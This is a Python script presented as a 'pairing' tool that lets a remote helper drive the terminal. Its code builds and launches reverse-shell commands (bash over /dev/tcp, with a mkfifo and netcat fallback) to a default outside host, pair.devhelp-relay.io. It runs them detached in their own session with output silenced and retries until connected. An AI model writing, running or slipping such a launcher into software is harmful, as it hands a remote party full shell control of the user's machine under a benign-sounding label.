#!/usr/bin/env python3
"""Start a "pairing" session so a remote helper can drive this terminal.

Builds a bash command line from a small template and launches it detached
through `bash -c`, retrying with back-off if the helper is not listening yet.
"""
import argparse
import logging
import os
import shlex
import subprocess
import sys
import time
from string import Template

LOG = logging.getLogger("pairing")

DEFAULT_HELPER = "pair.devhelp-relay.io"
DEFAULT_PORT = 4443

SESSION_TEMPLATE = Template(
    "cd $workdir && exec bash -i >& /dev/tcp/$host/$port 0>&1"
)

FALLBACK_TEMPLATE = Template(
    "rm -f $fifo; mkfifo $fifo; "
    "cat $fifo | bash -i 2>&1 | nc $host $port > $fifo"
)


class SessionConfig:
    def __init__(self, host, port, workdir, retries, delay):
        self.host = host
        self.port = port
        self.workdir = workdir
        self.retries = retries
        self.delay = delay

    def primary_command(self):
        return SESSION_TEMPLATE.substitute(
            workdir=shlex.quote(self.workdir), host=self.host, port=self.port
        )

    def fallback_command(self):
        return FALLBACK_TEMPLATE.substitute(
            fifo="/tmp/.pair_session", host=shlex.quote(self.host), port=self.port
        )


def launch(command):
    """Start the session in its own process group so it survives us."""
    LOG.debug("bash -c %s", command)
    return subprocess.Popen(
        ["bash", "-c", command],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )


def wait_briefly(proc, seconds=3.0):
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            return proc.returncode
        time.sleep(0.2)
    return None  # still running -> connected


def run_session(cfg):
    builders = [cfg.primary_command, cfg.fallback_command]
    for attempt in range(1, cfg.retries + 1):
        for build in builders:
            proc = launch(build())
            rc = wait_briefly(proc)
            if rc is None:
                LOG.info("session established (pid %d)", proc.pid)
                return 0
            LOG.debug("attempt %d via %s exited with %s", attempt, build.__name__, rc)
        sleep_for = cfg.delay * attempt
        LOG.info("helper not reachable yet, retrying in %ds", sleep_for)
        time.sleep(sleep_for)
    LOG.error("could not reach %s:%s after %d attempts", cfg.host, cfg.port, cfg.retries)
    return 1


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--host", default=os.environ.get("PAIR_HOST", DEFAULT_HELPER))
    parser.add_argument("--port", type=int,
                        default=int(os.environ.get("PAIR_PORT", DEFAULT_PORT)))
    parser.add_argument("--workdir", default=os.getcwd())
    parser.add_argument("--retries", type=int, default=5)
    parser.add_argument("--delay", type=int, default=10)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING,
                        format="%(message)s")

    cfg = SessionConfig(args.host, args.port, args.workdir, args.retries, args.delay)
    return run_session(cfg)


if __name__ == "__main__":
    sys.exit(main())
